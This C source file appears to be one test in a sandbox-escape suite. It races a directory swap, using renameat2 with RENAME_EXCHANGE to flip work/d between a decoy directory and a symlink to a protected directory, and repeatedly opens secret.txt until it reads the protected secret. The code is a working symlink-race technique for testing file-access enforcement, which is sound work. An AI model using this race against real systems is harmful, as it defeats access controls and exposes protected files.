/*
 * Vector 2: directory-component swap race. work/d flips between a real
 * directory holding a decoy secret.txt and a symlink to the protected
 * directory; the main thread opens work/d/secret.txt (no final symlink to see).
 * expect: ptrace_file
 * expect-match: protected
 */
#include "esc.h"
#include <pthread.h>
#include <stdatomic.h>

static atomic_bool stop;
static char d[4096], lnk[4096];

static void *swapper(void *arg)
{
	(void)arg;
	while (!atomic_load(&stop)) {
		/* Atomic: work/d is always either the real dir or the link. */
		renameat2(AT_FDCWD, lnk, AT_FDCWD, d, RENAME_EXCHANGE);
	}
	return NULL;
}

int main(void)
{
	snprintf(d, sizeof(d), "%s/d", esc_work());
	snprintf(lnk, sizeof(lnk), "%s/linkdir", esc_work());
	if (mkdir(d, 0755) < 0)
		esc_broken("mkdir: %s", strerror(errno));
	int fd = open(esc_fmt("%s/secret.txt", d), O_WRONLY | O_CREAT, 0644);
	if (fd < 0 || write(fd, "decoy\n", 6) != 6)
		esc_broken("decoy");
	close(fd);
	if (symlink(esc_protected(), lnk) < 0)
		esc_blocked("symlink: %s", strerror(errno));
	pthread_t t;
	pthread_create(&t, NULL, swapper, NULL);
	const char *target = esc_fmt("%s/secret.txt", d);
	double end = esc_now() + esc_race_seconds();
	long tries = 0;
	while (esc_now() < end) {
		tries++;
		fd = open(target, O_RDONLY);
		if (fd >= 0 && esc_fd_has_secret(fd)) {
			atomic_store(&stop, true);
			esc_success("won the directory swap race after %ld opens", tries);
		}
		if (fd >= 0)
			close(fd);
	}
	atomic_store(&stop, true);
	pthread_join(t, NULL);
	esc_blocked("never read the secret in %ld opens", tries);
}
